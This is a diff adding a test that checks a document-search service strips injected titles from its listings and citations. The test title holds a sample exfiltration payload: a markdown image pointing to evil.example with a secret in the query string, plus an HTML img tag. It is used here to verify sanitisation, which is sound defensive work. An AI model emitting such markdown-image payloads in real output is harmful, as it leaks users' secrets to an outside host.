@@ -196,3 +196,17 @@ def test_exfiltration_is_neutralised_in_every_mode(
     assert r.status_code == 200 and r.text.rstrip().endswith("data: [DONE]")
     text, _ = chat_stream_text(r.text)
     _assert_clean(text)
+
+
+def test_document_titles_in_listings_and_citations_are_sanitised(harness: Harness) -> None:
+    # Titles come from documents, so an injected title is an exfiltration channel too.
+    title = "Policy ![t](https://evil.example/t.png?d=SECRET) <img src=x>"
+    harness.corpus.add("titled", ["expense policy for travel claims"], ["eng"], title=title)
+    listed = harness.client.get("/v1/documents", headers=bearer("tok-alice-eng")).json()["documents"]
+    search = harness.client.post(
+        "/v1/search", json={"query": "expense policy travel"}, headers=bearer("tok-alice-eng")
+    ).json()
+    titles = [d["title"] for d in listed] + [c["title"] for c in search["citations"]]
+    assert titles, "the document is visible to its group"
+    for shown in titles:
+        assert "evil.example" not in shown and "<img" not in shown
